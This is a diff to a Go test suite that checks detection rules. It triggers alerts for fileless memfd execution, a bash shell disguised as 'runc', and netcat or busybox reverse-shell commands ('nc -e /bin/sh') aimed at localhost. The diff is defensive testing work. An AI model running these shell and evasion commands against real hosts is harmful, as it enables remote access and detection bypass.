@@ -306,6 +306,23 @@ func runChild(t *testing.T, env []string, mustSucceed bool, name string, args ..
 	return cmd.Process.Pid
 }
 
+// runArgv0 runs path with argv[0] set to argv0, as `exec -a` does (the
+// comm is still the file's name), to completion, and returns its pid.
+func runArgv0(t *testing.T, path, argv0 string, args ...string) int {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, path, args...)
+	cmd.Args[0] = argv0
+	if err := cmd.Run(); err != nil {
+		var exit *exec.ExitError
+		if !errors.As(err, &exit) || ctx.Err() != nil {
+			t.Fatalf("running %s as %s %q: %v", path, argv0, args, err)
+		}
+	}
+	return cmd.Process.Pid
+}
+
 // tempDir makes a directory below parent, removed when the test ends.
 func tempDir(t *testing.T, parent string) string {
 	t.Helper()
@@ -540,10 +557,21 @@ func hostRuleTests(env *hostEnv) []ruleTest {
 			trigger: func(t *testing.T) []alert {
 				arg := "memfd-" + randToken()
 				runEnv(t, []string{helperEnv + "=" + helperMemfd}, os.Args[0], arg)
-				return []alert{{key: []string{"proc.cmdline"}, want: fields{
-					"proc.cmdline": contains(" " + arg), "proc.exepath": contains("memfd:vigil-e2e-payload"),
-					"evt.arg.flags": contains("EXE_FROM_MEMFD"), "user.uid": 0, "container.id": "host",
-				}}}
+				// Started by a shell named runc (a link to bash): runc's
+				// exemption keys on the runtime's executable, not its name.
+				runc := filepath.Join(env.bin, "runc")
+				if err := os.Symlink("/bin/bash", runc); err != nil && !errors.Is(err, os.ErrExist) {
+					t.Fatal(err)
+				}
+				runcArg := "memfd-runc-" + randToken()
+				runEnv(t, []string{helperEnv + "=" + helperMemfd}, runc, "-c", os.Args[0]+" "+runcArg+"; true")
+				return []alert{
+					{key: []string{"proc.cmdline"}, want: fields{
+						"proc.cmdline": contains(" " + arg), "proc.exepath": contains("memfd:vigil-e2e-payload"),
+						"evt.arg.flags": contains("EXE_FROM_MEMFD"), "user.uid": 0, "container.id": "host",
+					}},
+					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": contains(" " + runcArg), "proc.pname": "runc"}},
+				}
 			},
 			benign: plain},
 		{rule: "Execution of Deleted Binary", priority: "Critical",
@@ -581,12 +609,18 @@ func hostRuleTests(env *hostEnv) []ruleTest {
 					long = append(long, "-v")
 				}
 				runCommand(t, filepath.Join(env.bin, "nc"), append(long, "-e", "/bin/sh", "127.0.0.1", "1")...)
+				// Whatever the comm: busybox's applet is argv[1] after
+				// "busybox", or argv[0] (exec -a nc).
+				runCommand(t, "busybox", "nc", "-e", "/bin/sh", "127.0.0.1", "2")
+				runArgv0(t, "/usr/bin/busybox", "nc", "-e", "/bin/sh", "127.0.0.1", "3")
 				return []alert{
 					{key: []string{"proc.cmdline"}, want: fields{
 						"proc.cmdline": "nc 127.0.0.1 " + port + " -e /bin/sh", "container.id": "host",
 					}},
 					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "nc -ve /bin/sh 127.0.0.1 1"}},
 					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": contains("nc -w 7 -v -v -v")}},
+					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "busybox nc -e /bin/sh 127.0.0.1 2", "proc.exepath": "/usr/bin/busybox"}},
+					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "busybox -e /bin/sh 127.0.0.1 3", "proc.exe": "nc"}},
 				}
 			},
 			benign: func(t *testing.T) []alert {
